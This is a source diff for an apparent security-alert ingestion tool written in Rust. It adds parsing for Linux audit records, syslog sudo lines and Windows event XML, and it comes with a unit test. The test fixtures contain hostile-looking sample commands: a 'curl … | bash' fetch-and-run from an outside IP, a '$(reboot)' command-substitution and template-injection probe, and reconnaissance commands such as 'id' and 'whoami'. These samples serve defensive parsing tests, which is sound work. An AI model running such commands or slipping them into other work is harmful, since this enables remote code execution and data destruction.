@@ -1,6 +1,8 @@
 //! Alerts in: any of the shapes SOCs export, normalised to Elastic Common Schema (ECS) fields.
 //!
-//! Accepted inputs (one JSON document, a JSON array, or JSON lines — detected per file):
+//! Accepted inputs (one JSON document, a JSON array, or JSON lines — detected per file — and raw
+//! log text where a line or the file is not JSON: Linux audit records, syslog lines, Windows
+//! event XML, read by the same readers that take such text from a SIEM's message field):
 //! ECS documents (nested, dotted keys, or both mixed), Elasticsearch hits (`_source`), Elastic
 //! Security detection alerts (`kibana.alert.*`), flat Windows events as NXLog/Logstash ship them
 //! (Sysmon 1/3/11/22, Security 4688, PowerShell 4103/4104), winlogbeat's `winlog.event_data`, and
@@ -51,11 +53,18 @@ fn excerpt(s: &str) -> String {
     }
 }
 
-/// Reads a file's text: one JSON document, a JSON array of documents, or JSON lines.
+/// Reads a file's text: one JSON document, a JSON array of documents, or JSON lines — and,
+/// where a line or the file is not JSON, the raw log text SOCs also replay: Linux audit records
+/// (one alert per audit event), syslog lines, Windows event XML.
 pub fn parse_text(text: &str) -> Vec<Result<Alert, BadAlert>> {
     let trimmed = text.trim_start_matches('\u{feff}').trim();
     if trimmed.is_empty() {
         return Vec::new();
+    }
+    if trimmed.starts_with('<') {
+        if let Some(events) = xml_events(trimmed) {
+            return events;
+        }
     }
     // A whole-file document or array first.
     if let Ok(v) = serde_json::from_str::<Json>(trimmed) {
@@ -70,23 +79,102 @@ pub fn parse_text(text: &str) -> Vec<Result<Alert, BadAlert>> {
         };
     }
     // JSON lines: each non-empty line is a document; a bad line is reported, the rest go on.
-    let mut out = Vec::new();
+    // A line that is not JSON at all is raw log text: the records of one audit event (which
+    // may be interleaved with others) become one alert, at the position of their first line.
+    let mut out: Vec<Vec<Result<Alert, BadAlert>>> = Vec::new();
+    let mut raw: Vec<(String, usize, String, String)> = Vec::new(); // key, slot, position, text
     for (i, line) in text.lines().enumerate() {
-        let l = line.trim();
+        let l = line.trim().trim_start_matches('\u{feff}');
         if l.is_empty() {
             continue;
         }
         let pos = format!("line {}", i + 1);
         match serde_json::from_str::<Json>(l) {
-            Ok(d) => out.extend(from_json_expanded(d, &pos)),
-            Err(e) => out.push(Err(BadAlert {
+            Ok(d) => out.push(from_json_expanded(d, &pos)),
+            Err(e) if l.starts_with(['{', '[', '"']) => out.push(vec![Err(BadAlert {
                 position: format!("{pos}, column {}", e.column()),
                 reason: format!("not valid JSON: {e}"),
                 excerpt: excerpt(l),
-            })),
+            })]),
+            Err(_) => match audit_event_key(l).and_then(|k| raw.iter_mut().find(|r| r.0 == k)) {
+                Some(r) => {
+                    r.3.push('\n');
+                    r.3.push_str(l);
+                }
+                None => {
+                    let key = audit_event_key(l).unwrap_or_else(|| format!("line {i}"));
+                    raw.push((key, out.len(), pos, l.to_owned()));
+                    out.push(Vec::new());
+                }
+            },
         }
     }
-    out
+    for (_, slot, pos, text) in raw {
+        out[slot].push(raw_event(&text, &pos));
+    }
+    out.into_iter().flatten().collect()
+}
+
+/// The event a Linux audit record belongs to: its `audit(time:serial)` stamp, with the node
+/// that wrote it when the line names one.
+fn audit_event_key(line: &str) -> Option<String> {
+    let at = line.find("msg=audit(")?;
+    let stamp = &line[at + 10..];
+    let stamp = &stamp[..stamp.find(')')?];
+    let node = line[..at]
+        .split_whitespace()
+        .find_map(|w| w.strip_prefix("node="))
+        .unwrap_or("");
+    Some(format!("{node} {stamp}"))
+}
+
+/// One raw log event (an audit event's records, a syslog line, a Windows event's XML) read by
+/// the readers that take such text from a SIEM's message field; text none of them reads is
+/// reported, not passed on as an empty alert.
+fn raw_event(text: &str, position: &str) -> Result<Alert, BadAlert> {
+    let unread = || BadAlert {
+        position: position.to_owned(),
+        reason: "neither JSON nor raw log text Riposte reads (Linux audit records, syslog lines \
+                 such as sudo or cron, Windows event XML): export the alert as JSON, a JSON \
+                 array or JSON lines"
+            .into(),
+        excerpt: excerpt(text),
+    };
+    let mut doc = Map::new();
+    doc.insert("message".into(), Json::String(text.to_owned()));
+    match from_json(Json::Object(doc), position) {
+        Ok(a)
+            if a.doc.as_object().is_some_and(|o| {
+                o.keys()
+                    .any(|k| !matches!(k.as_str(), "message" | "raw" | "@timestamp"))
+            }) =>
+        {
+            Ok(a)
+        }
+        _ => Err(unread()),
+    }
+}
+
+/// Windows events as XML (`wevtutil qe /f:xml`, Event Viewer's "Save as XML", a SIEM's raw
+/// event): one alert per `<Event>` element; `None` when the text holds none.
+fn xml_events(text: &str) -> Option<Vec<Result<Alert, BadAlert>>> {
+    // `<Event ` or `<Event>`, not `<Events>` (the wrapper of an export) or `<EventData>`.
+    let next = |from: usize| {
+        text[from..]
+            .match_indices("<Event")
+            .map(|(i, _)| from + i)
+            .find(|&i| text[i + 6..].starts_with([' ', '>', '\n', '\r', '\t']))
+    };
+    let mut out = Vec::new();
+    let mut at = 0;
+    while let Some(start) = next(at) {
+        let end = text[start..].find("</Event>")? + start + "</Event>".len();
+        let line = text[..start].matches('\n').count() + 1;
+        let pos = format!("event {} (line {line})", out.len() + 1);
+        out.push(raw_event(&text[start..end], &pos));
+        at = end;
+    }
+    (!out.is_empty()).then_some(out)
 }
 
 /// One alert per document of a batch (`name` one, `names` many), at most `MAX_RULE_MATCHES`;
@@ -2944,6 +3032,67 @@ mod tests {
         assert!(e.position.starts_with("line 2"), "{e}");
         assert!(r[2].as_ref().unwrap_err().reason.contains("object"));
         assert!(r[3].is_err());
+    }
+
+    #[test]
+    fn raw_log_text_is_read_where_json_is_not() {
+        // Audit records of two interleaved events, a sudo line, a truncated JSON line and text
+        // no reader knows: one alert per audit event (at its first line), the rest reported.
+        let text = concat!(
+            "type=SYSCALL msg=audit(1700000000.123:4567): arch=c000003e syscall=59 success=yes exit=0 ppid=1234 pid=1240 auid=1000 uid=0 euid=0 comm=\"bash\" exe=\"/usr/bin/bash\" key=\"exec\"\n",
+            "type=SYSCALL msg=audit(1700000000.200:4568): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=1300 auid=4294967295 uid=0 euid=0 comm=\"id\" exe=\"/usr/bin/id\"\n",
+            "type=EXECVE msg=audit(1700000000.123:4567): argc=3 a0=\"bash\" a1=\"-c\" a2=\"curl -s http://203.0.113.9/x.sh | bash\"\n",
+            "type=CWD msg=audit(1700000000.123:4567): cwd=\"/tmp\"\n",
+            "Mar  1 10:00:00 web01 sudo[2211]:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash -c id\n",
+            "{\"process\": {\"name\": \n",
+            "hello, {{7*7}} $(reboot)\n",
+        );
+        let r = parse_text(text);
+        assert_eq!(r.len(), 5, "{r:?}");
+        let a = r[0].as_ref().unwrap();
+        assert_eq!(a.position, "line 1");
+        assert_eq!(a.doc["process"]["executable"], "/usr/bin/bash");
+        assert_eq!(
+            a.doc["process"]["command_line"],
+            "bash -c \"curl -s http://203.0.113.9/x.sh | bash\""
+        );
+        assert_eq!(a.doc["user"]["name"], "root");
+        assert_eq!(r[1].as_ref().unwrap().position, "line 2");
+        let sudo = r[2].as_ref().unwrap();
+        assert_eq!(sudo.doc["process"]["parent"]["executable"], "/usr/bin/sudo");
+        assert_eq!(sudo.doc["user"]["name"], "alice");
+        let bad = r[3].as_ref().unwrap_err();
+        assert!(
+            bad.position.starts_with("line 6") && bad.reason.starts_with("not valid JSON"),
+            "{bad}"
+        );
+        let unknown = r[4].as_ref().unwrap_err();
+        assert_eq!(unknown.position, "line 7");
+        assert!(unknown.reason.contains("raw log text"), "{unknown}");
+        assert!(unknown.excerpt.contains("{{7*7}}"));
+
+        // Windows events as XML, wrapped as an export holds them: one alert per <Event>.
+        let ev = |n: u32, cmd: &str| {
+            format!(
+                "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>\n <System><Provider Name='Microsoft-Windows-Sysmon'/><EventID>1</EventID><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>ws{n}.corp.example</Computer></System>\n <EventData><Data Name='Image'>C:\\Windows\\System32\\cmd.exe</Data><Data Name='CommandLine'>{cmd}</Data><Data Name='ParentImage'>C:\\Windows\\explorer.exe</Data><Data Name='User'>CORP\\bob</Data></EventData>\n</Event>"
+            )
+        };
+        let xml = format!(
+            "<?xml version='1.0'?>\n<Events>\n{}\n{}\n</Events>\n",
+            ev(1, "cmd /c whoami"),
+            ev(2, "cmd /c echo &lt;b&gt;")
+        );
+        let r = parse_text(&xml);
+        assert_eq!(r.len(), 2, "{r:?}");
+        let a = r[0].as_ref().unwrap();
+        assert_eq!(a.position, "event 1 (line 3)");
+        assert_eq!(a.doc["process"]["command_line"], "cmd /c whoami");
+        assert_eq!(a.doc["process"]["parent"]["name"], "explorer.exe");
+        assert_eq!(
+            r[1].as_ref().unwrap().doc["process"]["command_line"],
+            "cmd /c echo <b>"
+        );
+        assert_eq!(r[1].as_ref().unwrap().position, "event 2 (line 7)");
     }
 
     #[test]
